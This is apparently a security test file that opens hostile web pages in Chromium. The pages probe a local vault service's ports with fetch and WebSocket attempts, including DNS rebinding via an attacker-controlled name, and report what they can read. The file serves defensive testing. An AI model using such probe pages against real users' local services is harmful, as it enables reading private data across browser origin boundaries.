/** Web pages in a real browser that try everything at the vault's ports and report what they could read. */
import { createServer } from 'node:http';
import { text as textOf } from 'node:stream/consumers';
import type { Listening } from '../../support/listening.ts';
import { close, hand, html, listen, serveWhile } from '../../support/page-server.ts';
import type { Attempt } from './attempts.ts';
import { browse } from './chromium.ts';

export type Outcome = {
  /** The name of the attempt and its address. */
  readonly name: string;
  readonly base: string;
  /** The part of the reply that the page could read; `null` if none. */
  readonly read: { readonly status: number; readonly text: string } | null;
};

/** The successful attempts with the text that the page could read. A refusal tells the page nothing. */
export const readable = (outcomes: readonly Outcome[]): string[] =>
  outcomes.flatMap(({ name, read }) =>
    read !== null && read.status < 400 ? [`${name} ${read.text}`] : [],
  );

/**
 * A page and the URLs that it tries. With `rebound` its own name resolves to that address after the page has loaded.
 */
export type Page = { readonly bases: readonly string[] } | { readonly rebound: Listening };

/** The name of a page whose DNS the attacker controls. */
const hostileName = 'attacker.test';

const script = `
const opens = (url) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url.replace(/^http/, 'ws'));
  socket.onopen = () => { resolve({ status: 101, text: '' }); socket.close(); };
  socket.onerror = reject;
});
const attempt = async (base, { name, path, socket, ...init }) => {
  const url = base + path;
  try {
    if (socket) return { name, base, read: await opens(url) };
    const reply = await fetch(url, { ...init, signal: AbortSignal.timeout(10_000) });
    if (reply.type === 'opaque') return { name, base, read: null };
    const text = (await reply.text()).slice(0, 500);
    return { name, base, read: { status: reply.status, text } };
  } catch {
    return { name, base, read: null };
  }
};
const run = async ({ bases, attempts }) => {
  const outcomes = [];
  // Attempts at one port run one after another, and each runs whatever the earlier ones did.
  await Promise.all(bases.map(async (base) => {
    for (const one of attempts) outcomes.push(await attempt(base, one));
  }));
  await fetch('/result', { method: 'POST', body: JSON.stringify(outcomes) });
};
`;

/** The server of one page, and the page's report. */
const startPage = async (page: Page, attempts: readonly Attempt[]) => {
  let tell: (outcomes: readonly Outcome[]) => void;
  const told = new Promise<readonly Outcome[]>((resolve) => {
    tell = resolve;
  });
  const bases = 'bases' in page ? page.bases : [''];
  const plan = JSON.stringify({ bases, attempts }).replaceAll('<', '\\u003c');
  const server = createServer((request, response) => {
    if (request.url === '/page') return html(response, `<script>${script}run(${plan})</script>`);
    if (request.url === '/result') {
      return void textOf(request).then((text) => {
        response.end();
        tell(JSON.parse(text));
      });
    }
    if ('rebound' in page) return hand(request, response, page.rebound);
    response.writeHead(404).end();
  });
  const port = await listen(server);
  const host = 'rebound' in page ? hostileName : '127.0.0.1';
  return { url: `http://${host}:${port}/page`, told, close: () => close(server) };
};

/** Opens all pages in one browser at once. Returns what each of them has read. */
export const openPages = async (
  pages: readonly Page[],
  attempts: readonly Attempt[],
): Promise<readonly (readonly Outcome[])[]> => {
  const started = await Promise.all(pages.map((page) => startPage(page, attempts)));
  const frames = started.map(({ url }) => `<iframe src="${url}"></iframe>`).join('');
  try {
    return await serveWhile(
      (_, response) => html(response, frames),
      (port) =>
        browse(
          `http://127.0.0.1:${port}/`,
          [hostileName],
          Promise.all(started.map(({ told }) => told)),
        ),
    );
  } finally {
    for (const one of started) await one.close();
  }
};
